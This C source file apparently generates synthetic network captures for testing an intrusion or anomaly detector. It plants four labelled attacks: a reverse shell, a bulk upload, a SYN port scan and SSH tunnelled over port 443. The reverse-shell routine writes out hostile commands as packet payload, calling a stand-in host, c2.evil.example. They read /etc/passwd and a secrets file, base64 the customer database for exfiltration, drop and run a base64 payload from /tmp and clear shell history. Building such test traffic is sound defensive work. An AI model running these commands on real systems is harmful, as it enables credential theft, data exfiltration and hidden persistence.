/* The planted attacks of the attack capture, at fixed offsets from its start:
 * a reverse shell to a new egress, a bulk upload to a known peer, a SYN scan
 * from the api pod, and SSH tunnelled over the payment provider's port. */
#include <stdio.h>
#include <string.h>

#include "buf.h"
#include "pcap.h"
#include "pkt.h"
#include "proto.h"
#include "rng.h"
#include "sessions.h"
#include "shop.h"
#include "tcp.h"

#define SEC 1000000ll
#define MS 1000ll

/* Text a shell prints: `n` bytes of lines made by `line`. */
static void shell_text(struct buf *b, struct rng *r, size_t n,
                       void (*line)(struct buf *, struct rng *, unsigned)) {
  size_t start = b->len;
  for (unsigned i = 0; b->len - start < n; i++) line(b, r, i);
  b->len = start + n;
  b->p[b->len - 1] = '\n';
}

static void passwd_line(struct buf *b, struct rng *r, unsigned i) {
  (void)r;
  static const char *const users[] = {"root",  "daemon",   "bin",
                                      "sys",   "www-data", "postgres",
                                      "redis", "app",      "nobody"};
  const char *u = users[i % 9];
  buf_fmt(b, "%s:x:%u:%u:%s:/home/%s:/bin/sh\n", u, i * 7 % 1000, i * 7 % 1000,
          u, u);
}

static void env_line(struct buf *b, struct rng *r, unsigned i) {
  static const char *const keys[] = {
      "DATABASE_URL",          "REDIS_URL", "PAYMENTS_KEY", "JWT_SECRET",
      "AWS_SECRET_ACCESS_KEY", "PATH",      "HOSTNAME",     "HOME"};
  buf_fmt(b, "%s=", keys[i % 8]);
  static const char hex[] = "0123456789abcdef";
  for (int k = 0; k < 40; k++) buf_u8(b, (uint8_t)hex[rng_below(r, 16)]);
  buf_u8(b, '\n');
}

static void base64_line(struct buf *b, struct rng *r, unsigned i) {
  (void)i;
  static const char b64[] =
      "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
  for (int k = 0; k < 76; k++) buf_u8(b, (uint8_t)b64[rng_below(r, 64)]);
  buf_u8(b, '\n');
}

/* The operator pastes a second stage: ~700 bytes of base64 and a launcher,
 * which brings what the C2 sends to about 1 KB. */
static void stage2(struct buf *b, struct rng *r) {
  buf_str(b, "echo '");
  for (int i = 0; i < 9; i++) base64_line(b, r, 0);
  b->len--; /* no newline inside the quotes' last line */
  buf_str(b,
          "' | base64 -d > /tmp/.x && chmod +x /tmp/.x && "
          "nohup /tmp/.x >/dev/null 2>&1 &\n");
}

/* a. api resolves c2.evil.example, opens a reverse shell to
 * 192.0.2.66:4444 and leaks ~20 KB. */
static void reverse_shell(struct world *w, int64_t t, struct truth *tr) {
  struct rng *r = w->rng;
  t = world_dns(w, &host_api, "c2.evil.example", host_c2.ip, 60, t);
  struct tcp_path path;
  tcp_path_remote_server(&path, r, rng_range(r, 60 * MS, 90 * MS));
  struct tcp_conn c;
  struct session_out out;
  session_open(w, &c, &host_api, &host_c2, 4444, &path,
               t + rng_range(r, 500, 3000), EDGE_ATTACK, &out);
  struct buf b;
  buf_init(&b);
  buf_str(&b, "bash: no job control in this shell\nroot@shop-api-7d9f:/app# ");
  tcp_send(&c, TCP_CLI, b.p, b.len, TCP_REPLY_FOLLOWS);
  static const struct {
    const char *cmd;
    size_t out;
    void (*line)(struct buf *, struct rng *, unsigned);
  } steps[] = {
      {"id\n", 0, NULL},
      {"uname -a\n", 0, NULL},
      {"cat /etc/passwd\n", 1400, passwd_line},
      {"env\n", 900, env_line},
      {"cat /app/config/secrets.env\n", 700, env_line},
      {"tar czf - /app/data/customers.db 2>/dev/null | base64 -w76\n", 15800,
       base64_line},
      {NULL, 0, NULL}, /* the dropper: see stage2() */
      {"history -c; rm -f /tmp/.x.log; exit\n", 0, NULL},
  };
  for (size_t i = 0; i < sizeof(steps) / sizeof(steps[0]); i++) {
    tcp_idle(&c, rng_range(r, 800 * MS, 4 * SEC)); /* the operator types */
    buf_reset(&b);
    if (steps[i].cmd)
      buf_str(&b, steps[i].cmd);
    else
      stage2(&b, r);
    tcp_send(&c, TCP_SRV, b.p, b.len, TCP_REPLY_FOLLOWS);
    tcp_idle(&c, rng_range(r, 1 * MS, 40 * MS));
    buf_reset(&b);
    if (steps[i].line)
      shell_text(&b, r, steps[i].out, steps[i].line);
    else if (i == 0)
      buf_str(&b, "uid=0(root) gid=0(root) groups=0(root)\n");
    else if (i == 1)
      buf_str(&b,
              "Linux shop-api-7d9f 6.1.0-17-amd64 #1 SMP PREEMPT_DYNAMIC "
              "Debian 6.1.69-1 (2023-12-30) x86_64 GNU/Linux\n");
    if (i + 1 < sizeof(steps) / sizeof(steps[0]))
      buf_str(&b, "root@shop-api-7d9f:/app# ");
    else
      buf_str(&b, "exit\n");
    tcp_send(&c, TCP_CLI, b.p, b.len, TCP_ACK_NOW);
  }
  tcp_close(&c, TCP_CLI);
  buf_free(&b);
  *tr = (struct truth){"a",
                       out.start,
                       host_api.ip,
                       host_c2.ip,
                       out.cport,
                       4444,
                       "tcp",
                       "violation",
                       "new egress: reverse shell from api to 192.0.2.66:4444 "
                       "(sends ~20 KB, receives ~1 KB)"};
}

/* b. api uploads 5 MB to the payment provider inside a normal TLS session. */
static void bulk_upload(struct world *w, int64_t t, struct truth *tr) {
  struct rng *r = w->rng;
  t = world_dns(w, &host_api, "api.payments.example", host_payments.ip, 300, t);
  struct tcp_path path;
  tcp_path_remote_server(&path, r, rng_range(r, 18 * MS, 32 * MS));
  struct tls_plan plan = {
      .sni = "api.payments.example",
      .server_handshake = 1800,
      .request = 5u * 1024 * 1024,
      .response = 900,
      .server_think_us = 60 * MS,
  };
  struct session_out out;
  session_tls(w, t + rng_range(r, 30, 200), &host_api, &host_payments, 443,
              &path, &plan, EDGE_ATTACK, &out);
  *tr = (struct truth){"b",
                       out.start,
                       host_api.ip,
                       host_payments.ip,
                       out.cport,
                       443,
                       "tcp",
                       "anomaly",
                       "bulk transfer: api sends 5 MB of TLS application data "
                       "to payments:443 (learned: a few KB)"};
}

/* c. nmap -sS from the api pod against db: ports 1-1024 and 5432 in random
 * order from one source port; closed ports answer RST-ACK, the open port
 * SYN-ACK, which the scanner resets. */
static void syn_scan(struct world *w, int64_t t, struct truth *tr) {
  struct rng *r = w->rng;
  uint16_t ports[1025];
  for (unsigned i = 0; i < 1024; i++) ports[i] = (uint16_t)(i + 1);
  ports[1024] = 5432;
  for (unsigned i = 1024; i > 0; i--) { /* Fisher-Yates */
    unsigned j = (unsigned)rng_below(r, i + 1);
    uint16_t x = ports[i];
    ports[i] = ports[j];
    ports[j] = x;
  }
  uint16_t sport = world_port(w, &host_api, &host_db, 0);
  struct host scanner = host_api;
  scanner.ttl = (uint8_t)rng_range(r, 37, 59); /* nmap's raw-socket TTL */
  /* nmap's SYN: window 1024, a lone MSS option. */
  static const uint8_t mss_opt[4] = {2, 4, 0x05, 0xb4};
  static const uint8_t synack_opt[12] = {2, 4, 0x05, 0xb4, 1, 1,
                                         4, 2, 1,    3,    3, 7};
  int64_t start = t;
  for (unsigned i = 0; i < 1025; i++) {
    uint32_t seq = (uint32_t)rng_next(r);
    struct tcp_hdr syn = {.sport = sport,
                          .dport = ports[i],
                          .seq = seq,
                          .flags = TCP_SYN,
                          .win = 1024,
                          .opt = mss_opt,
                          .optlen = sizeof(mss_opt)};
    pkt_tcp(w->tr, t, &scanner, &host_db, (uint16_t)rng_next(r), &syn, NULL, 0);
    int64_t ta = t + rng_range(r, 60, 400);
    if (ports[i] == 5432) {
      uint32_t isn = (uint32_t)rng_next(r);
      struct tcp_hdr sa = {.sport = 5432,
                           .dport = sport,
                           .seq = isn,
                           .ack = seq + 1,
                           .flags = TCP_SYN | TCP_ACK,
                           .win = 64240,
                           .opt = synack_opt,
                           .optlen = sizeof(synack_opt)};
      pkt_tcp(w->tr, ta, &host_db, &scanner, (uint16_t)rng_next(r), &sa, NULL,
              0);
      struct tcp_hdr rst = {
          .sport = sport, .dport = 5432, .seq = seq + 1, .flags = TCP_RST};
      int64_t trst = ta + rng_range(r, 20, 80);
      pkt_tcp(w->tr, trst, &scanner, &host_db, (uint16_t)rng_next(r), &rst,
              NULL, 0);
    } else {
      struct tcp_hdr ra = {.sport = ports[i],
                           .dport = sport,
                           .seq = 0,
                           .ack = seq + 1,
                           .flags = TCP_RST | TCP_ACK};
      pkt_tcp(w->tr, ta, &host_db, &scanner, (uint16_t)rng_next(r), &ra, NULL,
              0);
    }
    w->scan_probes++;
    t += (int64_t)rng_exp(r, 9 * MS) + 1; /* ~1025 probes in ~10 s */
  }
  w->flows[EDGE_ATTACK]++;
  *tr = (struct truth){"c",
                       start,
                       host_api.ip,
                       host_db.ip,
                       sport,
                       -1,
                       "tcp",
                       "threat",
                       "port scan: api SYN-scans db ports 1-1024 and 5432 in "
                       "~10 s from one source port"};
}

/* d. SSH spoken to the payment provider's address on 443: a tunnel. */
static void ssh_on_443(struct world *w, int64_t t, struct truth *tr) {
  struct rng *r = w->rng;
  struct tcp_path path;
  tcp_path_remote_server(&path, r, rng_range(r, 18 * MS, 32 * MS));
  struct session_out out;
  session_ssh(w, t, &host_api, &host_payments, 443, &path, SSH_TUNNEL,
              EDGE_ATTACK, &out);
  *tr = (struct truth){"d",
                       out.start,
                       host_api.ip,
                       host_payments.ip,
                       out.cport,
                       443,
                       "tcp",
                       "violation,threat",
                       "protocol mismatch: SSH (banner, key exchange, binary "
                       "packets) to payments:443 instead of TLS (outside the "
                       "whitelist, and on TLS's well-known port)"};
}

void attack_plant(struct world *w, int64_t t0,
                  struct truth truth[ATTACK_COUNT]) {
  reverse_shell(w, t0 + 120 * SEC, &truth[0]);
  bulk_upload(w, t0 + 240 * SEC, &truth[1]);
  syn_scan(w, t0 + 360 * SEC, &truth[2]);
  ssh_on_443(w, t0 + 480 * SEC, &truth[3]);
}
